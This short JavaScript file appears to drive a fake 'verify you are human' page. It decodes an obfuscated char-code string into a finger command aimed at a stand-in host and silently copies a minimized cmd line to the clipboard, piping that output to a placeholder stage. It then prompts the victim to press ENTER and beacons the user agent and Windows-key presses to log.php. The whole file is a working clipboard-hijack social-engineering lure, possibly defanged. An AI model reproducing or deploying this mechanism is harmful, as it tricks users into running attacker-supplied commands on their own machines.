var c=[102,105,110,103,101,114,32,65,65,65,65,64,118,99,104,107,46,105,110,118,97,108,105,100],o="";
for(var i=0;i<c.length;i++)o+=String.fromCharCode(c[i]);
var pre="cmd /c start \"\" /min cmd /c \"",post=" | PLACEHOLDER\" & echo 'Verify you are human--press ENTER'";
function cpy(){var t=document.createElement("textarea");t.value=pre+o+post;t.setAttribute("readonly","");t.style.opacity=0;document.body.appendChild(t);t.select();t.setSelectionRange(0,99999);try{document.execCommand("copy")}catch(e){}document.body.removeChild(t)}
function st(n){["a","b","c"].forEach(function(k,j){document.getElementById(k).style.display=j===n?"block":"none"})}
document.getElementById("chk").onclick=function(){cpy();st(1);setTimeout(function(){st(2);var s=60,iv=setInterval(function(){document.getElementById("tm").innerText="Verification expires in "+s+"s";if(s--===0){clearInterval(iv);location.reload()}},1000)},2200);
var x=new XMLHttpRequest();x.open("POST","log.php");x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("e=chk&ua="+encodeURIComponent(navigator.userAgent))};
document.onkeydown=function(e){if(e.keyCode===91||e.metaKey){cpy();(new Image).src="log.php?e=win"}};
